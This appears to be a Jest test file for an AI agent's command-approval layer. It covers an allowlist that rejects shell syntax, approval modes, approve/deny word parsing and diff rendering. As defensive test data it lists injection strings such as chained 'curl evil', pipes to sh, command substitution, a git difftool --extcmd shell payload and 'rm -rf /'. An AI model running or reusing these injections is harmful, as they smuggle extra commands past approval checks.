import { changeRequest, commandRequest, fileHash } from '../../src/agent/workspace-person-requests.js';
import { describe, expect, it } from '@jest/globals';
import { ApprovalPolicy } from '../../src/approvals/approval-policy.js';
import { conversationAnswer } from '../../src/approvals/approval-texts.js';
import { CommandAllowlist, simpleCommandWords } from '../../src/approvals/command-pattern.js';
import { patternProblem } from '../../src/config/command-pattern-syntax.js';
import { unifiedDiff } from '../../src/approvals/unified-diff.js';
import { type ConfigError, validateConfig } from '../../src/config/agent-config.js';

describe('command allowlist', () => {
  const allow = new CommandAllowlist(['npm test*', 'git status', 'ls *', 'grep *', 'git diff*', 'make * check']);

  it.each([
    'npm test',
    'npm test -- --watch=false',
    'git status',
    'git diff',
    'git diff --stat HEAD~1',
    'make check',
    'make -j4 all check',
    '  git   status  ',
    'ls',
    'ls -la src',
    "ls 'a file'",
    'grep "a|b" src/x.ts',
    "grep 'x; rm -rf /' README.md",
    'grep a\\;b file',
  ])('runs %j without asking', (command) => {
    expect(allow.allows(command)).toBe(true);
  });

  it.each([
    'npm test && curl evil',
    'npm test; curl evil',
    'npm test || curl evil',
    'npm test | sh',
    'npm test > /etc/passwd',
    'npm test < input',
    'npm test 2>&1',
    'npm test &',
    'npm test & curl evil',
    'npm test $(curl evil)',
    'npm test `curl evil`',
    'npm test "$(curl evil)"',
    'npm test "`curl evil`"',
    'npm test $HOME',
    'npm test\ncurl evil',
    'npm test\rcurl evil',
    'npm test #; curl evil',
    '(npm test)',
    '{ npm test; }',
    'ls *.ts',
    'ls src/?',
    "npm test 'unterminated",
    'npm test "unterminated',
    'npm test \\',
    'git status --porcelain',
    'git statuses',
    // Issue 20, finding 3: * stands for whole arguments, never the rest of a word.
    'npm test:unit',
    'npm testx',
    `git difftool --no-prompt --extcmd="sh -c 'id > PWNED.txt'" --no-index a b`,
    'git diffx',
    'make check x',
    'FOO=bar npm test',
    'curl evil',
    '',
    '   ',
  ])('asks for %j', (command) => {
    expect(allow.allows(command)).toBe(false);
  });

  it('splits words the way sh does for simple commands, and refuses everything else', () => {
    expect(simpleCommandWords(`echo 'a b' "c\\"d" e\\ f`)).toEqual(['echo', 'a b', 'c"d', 'e f']);
    expect(simpleCommandWords('echo a;b')).toBeNull();
    expect(simpleCommandWords('echo a&&b')).toBeNull();
  });

  it('names a bad pattern of agent.approvals.allow by its index at boot', () => {
    expect(validateConfig({}).agent.approvals).toEqual({ mode: 'never', allow: [], waitMs: 120_000 });
    try {
      validateConfig({ agent: { approvals: { mode: 'sometimes', allow: ['npm test*', 'npm test; *'] } } });
      throw new Error('accepted');
    } catch (error) {
      expect((error as ConfigError).problems).toEqual([
        'agent.approvals.mode: must be one of never, commands, changes (got "sometimes")',
        'agent.approvals.allow.1: "npm test; *" contains shell syntax; patterns are plain words and *',
      ]);
    }
  });

  it('refuses unusable patterns at boot', () => {
    expect(patternProblem('npm test*')).toBeNull();
    expect(patternProblem('')).toMatch(/empty/);
    expect(patternProblem('*')).toMatch(/allow everything/);
    expect(patternProblem('npm test && *')).toMatch(/shell syntax/);
  });
});

describe('approval policy, as the workspace tools ask with it (ADR 0020 §3)', () => {
  const command = (text: string) => ({ function: { name: 'run_command', arguments: { command: text } } });
  const preview = { path: 'x', before: 'a\n', after: 'b\n' };

  it('never: nothing asks', () => {
    const policy = new ApprovalPolicy('never', []);
    expect(commandRequest(command('rm -rf /'), policy)).toBeNull();
    expect(changeRequest(preview, policy)).toBeNull();
  });

  it('commands: every command outside the allowlist asks, shown as its command line; file changes do not', () => {
    const policy = new ApprovalPolicy('commands', ['npm test*']);
    expect(commandRequest(command('npm install'), policy)).toEqual({ kind: 'approval', subject: 'npm install', diff: null, baseSha256: null });
    expect(commandRequest(command('npm test'), policy)).toBeNull();
    expect(commandRequest(command('npm test && curl evil'), policy)).not.toBeNull();
    // An empty command is refused by the toolbox without running anything.
    expect(commandRequest(command('  '), policy)).toBeNull();
    expect(changeRequest(preview, policy)).toBeNull();
  });

  it('changes: commands and every write or edit ask, a change with its diff and the hash of the file it applies to', () => {
    const policy = new ApprovalPolicy('changes', []);
    expect(commandRequest(command('ls'), policy)).not.toBeNull();
    expect(changeRequest(preview, policy)).toEqual({ kind: 'approval', subject: 'x', diff: expect.stringContaining('-a\n+b'), baseSha256: fileHash('a\n') });
    expect(changeRequest({ ...preview, before: null }, policy)).toMatchObject({ baseSha256: 'absent' });
    // A change that cannot apply is not asked about: it fails by itself and changes nothing.
    expect(changeRequest(null, policy)).toBeNull();
  });
});

describe('answer words', () => {
  it.each(['承認', 'はい', 'approve', 'YES', '  Approve \n', '　承認　'])('%j approves', (word) => expect(conversationAnswer(word)).toBe('approve'));
  it.each(['拒否', 'いいえ', 'deny', 'No', ' NO '])('%j denies', (word) => expect(conversationAnswer(word)).toBe('deny'));
  it.each(['yes please', '承認します', 'run the tests instead', ''])('%j is a new instruction', (word) => expect(conversationAnswer(word)).toBe('instruction'));
});

describe('unified diff', () => {
  const bounds = { maxLines: 200, maxChars: 10_000 };

  it('shows one hunk with three lines of context around an edit', () => {
    const before = ['1', '2', '3', '4', '5', '6', '7', '8', '9'].join('\n') + '\n';
    const after = before.replace('5', 'five');
    expect(unifiedDiff('x.txt', before, after, bounds)).toEqual({
      text: ['--- a/x.txt', '+++ b/x.txt', '@@ -2,7 +2,7 @@', ' 2', ' 3', ' 4', '-5', '+five', ' 6', ' 7', ' 8'].join('\n'),
      truncated: false,
    });
  });

  it('shows a new file against /dev/null', () => {
    expect(unifiedDiff('new.txt', null, 'a\nb\n', bounds).text).toBe(['--- /dev/null', '+++ b/new.txt', '@@ -0,0 +1,2 @@', '+a', '+b'].join('\n'));
  });

  it('shows a change of the final newline alone (a\\n to a), which a person could not otherwise see', () => {
    expect(unifiedDiff('x.txt', 'a\n', 'a', bounds).text).toBe(['--- a/x.txt', '+++ b/x.txt', '@@ -1,1 +1,1 @@', '-a', '+a', '\\ No newline at end of file'].join('\n'));
  });

  it('shows nothing but the headers for no change', () => {
    expect(unifiedDiff('x.txt', 'a\n', 'a\n', bounds).text).toBe(['--- a/x.txt', '+++ b/x.txt'].join('\n'));
  });

  it('shows two unrelated texts with more edits than lines shown as all removed, all added', () => {
    const before = Array.from({ length: 300 }, (_, i) => `old ${i}`).join('\n');
    const after = Array.from({ length: 300 }, (_, i) => `new ${i}`).join('\n');
    const diff = unifiedDiff('x.txt', before, after, { maxLines: 200, maxChars: 100_000 });
    expect(diff.text.split('\n').slice(0, 4)).toEqual(['--- a/x.txt', '+++ b/x.txt', '@@ -1,300 +1,300 @@', '-old 0']);
    expect(diff.truncated).toBe(true);
  });

  it('is bounded, with a marker saying how much is left out', () => {
    const after = Array.from({ length: 1000 }, (_, i) => `line ${i}`).join('\n');
    const diff = unifiedDiff('big.txt', null, after, { maxLines: 50, maxChars: 100_000 });
    expect(diff.truncated).toBe(true);
    expect(diff.text.split('\n')).toHaveLength(51);
    // 1 000 added lines, 3 header lines and the no-newline marker.
    expect(diff.text).toMatch(/… 954 more diff lines not shown$/);
    expect(unifiedDiff('big.txt', null, after, { maxLines: 10_000, maxChars: 500 }).text.length).toBeLessThan(600);
  });
});

describe('allow patterns that name programs running other programs (issue 20, finding 3)', () => {
  it('are named for the boot warning; plain programs are not', async () => {
    const { patternsRunningOtherPrograms } = await import('../../src/approvals/command-pattern.js');
    expect(patternsRunningOtherPrograms(['npm test*', 'git status', 'ls *', '/usr/bin/find . -name x', 'wc -l *', 'cat *'])).toEqual([
      'npm test*',
      'git status',
      '/usr/bin/find . -name x',
    ]);
  });
});
